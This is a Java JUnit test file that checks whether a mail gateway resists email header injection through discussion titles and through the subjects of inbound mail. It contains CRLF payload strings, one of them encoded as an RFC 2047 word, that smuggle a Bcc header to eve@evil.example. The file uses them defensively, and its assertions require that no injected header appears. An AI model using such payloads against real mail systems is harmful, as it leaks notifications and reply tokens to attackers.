package org.ecs.gateways.mail;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneId;
import java.time.ZoneOffset;
import java.util.List;
import java.util.Locale;
import java.util.Properties;

import jakarta.mail.Session;
import jakarta.mail.internet.InternetAddress;
import jakarta.mail.internet.MimeMessage;
import org.junit.jupiter.api.Test;

import org.ecs.gateways.mail.NotificationMailComposer.Comment;
import org.ecs.gateways.mail.NotificationMailComposer.Discussion;
import org.ecs.gateways.mail.NotificationMailComposer.Notification;
import org.ecs.gateways.mail.NotificationMailComposer.Recipient;
import org.ecs.gateways.mail.RejectionMailComposer.Reason;
import org.ecs.gateways.mail.RejectionMailComposer.Rejection;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Text people chose (a discussion's title through the API, the subject of a mail they
 * sent) goes into headers of the mail ECS sends: a line break in it must never start a
 * header of its own (a Bcc that copies every notification, with its reply token, to the
 * attacker).
 */
class HeaderInjectionTest {

	private static final String INJECTED = "Draft\r\nBcc: eve@evil.example\r\nX-Injected: yes";

	private final Session session = Session.getInstance(new Properties());

	@Test
	void shouldKeepALineBreakInADiscussionTitleInsideItsHeadersWhenNotifying() throws Exception {
		MimeMessage sent = NotificationMailComposerTest.composer(this.session)
			.compose(new Notification(new Recipient("Ann Expert", "ann@state.example", Locale.ENGLISH),
					new Discussion(42, INJECTED, Instant.parse("2026-12-01T17:00:00Z")),
					new Comment("Bob", "See para 3", Instant.parse("2026-11-25T09:00:00Z")), 1001, "reply+tok@ecs.org",
					"bounce+vtok@ecs.org", "<d-42.ecs.org>", "https://ecs.org", null));

		MimeMessage received = roundTrip(sent);

		assertThat(received.getHeader("Bcc")).isNull();
		assertThat(received.getHeader("X-Injected")).isNull();
		assertThat(received.getAllRecipients()).extracting((a) -> ((InternetAddress) a).getAddress())
			.containsExactly("ann@state.example");
	}

	@Test
	void shouldKeepALineBreakInTheSubjectOfAMailItAnswersInsideTheSubject() throws Exception {
		RejectionMailComposer composer = new RejectionMailComposer(this.session, new InternetAddress("notify@ecs.org"),
				NotificationMailComposerTest.IDS, ZoneId.of("UTC"),
				Clock.fixed(Instant.parse("2026-11-25T10:00:00Z"), ZoneOffset.UTC));
		// an encoded word decodes to a line break the raw header could not carry
		InboundMail original = new MimeMailParser()
			.parse(("Message-ID: <m1@state.example>\r\n" + "From: Ann <ann@state.example>\r\n"
					+ "Subject: =?UTF-8?Q?Draft=0D=0ABcc:_eve@evil.example=0D=0AX-Injected:_yes?=\r\n\r\nlate\r\n")
				.getBytes(StandardCharsets.UTF_8));

		MimeMessage received = roundTrip(composer
			.compose(new Rejection(original, Reason.DISCUSSION_CLOSED, Locale.ENGLISH, INJECTED, null, List.of())));

		assertThat(received.getHeader("Bcc")).isNull();
		assertThat(received.getHeader("X-Injected")).isNull();
		assertThat(received.getAllRecipients()).extracting((a) -> ((InternetAddress) a).getAddress())
			.containsExactly("ann@state.example");
	}

	private MimeMessage roundTrip(MimeMessage message) throws Exception {
		message.saveChanges();
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		message.writeTo(out);
		return new MimeMessage(this.session, new ByteArrayInputStream(out.toByteArray()));
	}

}
